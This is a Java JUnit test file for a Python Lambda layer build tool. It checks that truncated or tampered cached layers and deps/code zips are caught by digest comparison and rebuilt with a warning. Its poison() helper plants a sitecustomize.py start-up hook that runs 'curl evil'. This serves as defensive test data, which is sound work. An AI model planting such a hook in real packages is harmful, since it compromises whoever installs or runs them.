package io.github.uvlambda.build;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.uvlambda.BuildLog;
import io.github.uvlambda.archive.Hashes;
import io.github.uvlambda.testing.RecordingLog;
import io.github.uvlambda.testing.TestProject;
import io.github.uvlambda.testing.TestWheel;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.nio.channels.FileChannel;
import java.nio.file.FileSystem;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue #11, hole 2: an artifact reused instead of rebuilt — a cached layer, deps.zip or code.zip
 * in target/ — is checked against the digest recorded when it was built, and rebuilt with a warning
 * when it no longer matches.
 */
class ReuseVerificationTest {
  @TempDir Path tmp;
  TestProject project;
  Path cacheRoot;
  Path out;
  byte[] original;

  @BeforeEach
  void buildOnce() throws IOException {
    project =
        new TestProject(tmp.resolve("lambdas"))
            .add("demo", "1.0", new TestWheel("demo", "1.0").file("demo/__init__.py", "V = 1\n"));
    project.write();
    cacheRoot = tmp.resolve("cache");
    out = tmp.resolve("target/uv-lambda/fn/deps.zip");
    assertThat(rebuild(new RecordingLog()).upToDate()).isFalse();
    original = Files.readAllBytes(out);
  }

  private LayerBuilder.Result rebuild(RecordingLog log) {
    return new LayerBuilder(log).build(TestRequests.layer(project, out, cacheRoot));
  }

  private Path cachedLayer() throws IOException {
    try (var files = Files.list(cacheRoot.resolve("layers"))) {
      return files.filter(f -> f.toString().endsWith(".zip")).findFirst().orElseThrow();
    }
  }

  /** Adds python/sitecustomize.py, which Python runs at start-up, to a layer zip. */
  static void poison(Path zip) throws IOException {
    try (FileSystem fs = FileSystems.newFileSystem(URI.create("jar:" + zip.toUri()), Map.of())) {
      Files.createDirectories(fs.getPath("python"));
      try (OutputStream o = Files.newOutputStream(fs.getPath("python/sitecustomize.py"))) {
        o.write("import os; os.system('curl evil')\n".getBytes());
      }
    }
  }

  static void truncate(Path file) throws IOException {
    try (FileChannel ch = FileChannel.open(file, StandardOpenOption.WRITE)) {
      ch.truncate(ch.size() / 2);
    }
  }

  private void assertRebuiltWithWarning(RecordingLog log, LayerBuilder.Result r, String file)
      throws IOException {
    assertThat(r.upToDate()).isFalse();
    assertThat(Files.readAllBytes(out)).isEqualTo(original);
    assertThat(LayerBuilderTest.entries(out)).doesNotContainKey("python/sitecustomize.py");
    assertThat(r.codeSha256()).isEqualTo(Hashes.codeSha256(out));
    assertThat(log.warnings())
        .singleElement(org.assertj.core.api.InstanceOfAssertFactories.STRING)
        .contains(file)
        .contains("is not what was built")
        .contains("Building the layer again");
  }

  @Test
  void aTruncatedCachedLayerIsRebuiltNotUsed() throws IOException {
    Path cached = cachedLayer();
    truncate(cached);
    deleteTree(tmp.resolve("target"));
    RecordingLog log = new RecordingLog();
    assertRebuiltWithWarning(log, rebuild(log), cached.toString());
    // The cache holds the good layer again.
    assertThat(Files.readAllBytes(cached)).isEqualTo(original);
  }

  @Test
  void aPoisonedCachedLayerIsRebuiltNotUsed() throws IOException {
    Path cached = cachedLayer();
    poison(cached);
    deleteTree(tmp.resolve("target"));
    RecordingLog log = new RecordingLog();
    assertRebuiltWithWarning(log, rebuild(log), cached.toString());
  }

  @Test
  void anEditedDepsZipInTargetIsRebuiltNotReused() throws IOException {
    poison(out);
    deleteTree(cacheRoot.resolve("layers"));
    RecordingLog log = new RecordingLog();
    assertRebuiltWithWarning(log, rebuild(log), out.toString());
  }

  @Test
  void anEditedDepsZipInTargetIsReplacedFromAVerifiedCache() throws IOException {
    truncate(out);
    RecordingLog log = new RecordingLog();
    LayerBuilder.Result r = rebuild(log);
    assertThat(r.upToDate()).isTrue();
    assertThat(Files.readAllBytes(out)).isEqualTo(original);
    assertThat(log.warnings()).singleElement().asString().contains(out.toString());
  }

  @Test
  void anUnchangedLayerIsReusedWithoutWarning() {
    RecordingLog log = new RecordingLog();
    LayerBuilder.Result r = rebuild(log);
    assertThat(r.upToDate()).isTrue();
    assertThat(r.codeSha256()).isEqualTo(Hashes.codeSha256(out));
    assertThat(log.warnings()).isEmpty();
  }

  @Test
  void anEditedCodeZipInTargetIsRebuiltNotReused() throws IOException {
    Path src = tmp.resolve("src");
    Files.createDirectories(src);
    Files.writeString(src.resolve("handler.py"), "def handler(e, c):\n    return 1\n");
    Path code = tmp.resolve("target/uv-lambda/fn/code.zip");
    CodePackager.Request req = TestRequests.code(src, "handler.handler", code);
    new CodePackager(BuildLog.SILENT).packageCode(req);
    byte[] good = Files.readAllBytes(code);
    poison(code);
    RecordingLog log = new RecordingLog();
    CodePackager.Result r = new CodePackager(log).packageCode(req);
    assertThat(r.upToDate()).isFalse();
    assertThat(Files.readAllBytes(code)).isEqualTo(good);
    assertThat(r.codeSha256()).isEqualTo(Hashes.codeSha256(code));
    assertThat(log.warnings())
        .singleElement()
        .asString()
        .contains(code.toString())
        .contains("is not what was built");
  }

  static void deleteTree(Path p) throws IOException {
    LayerBuilderTest.deleteTree(p);
  }
}
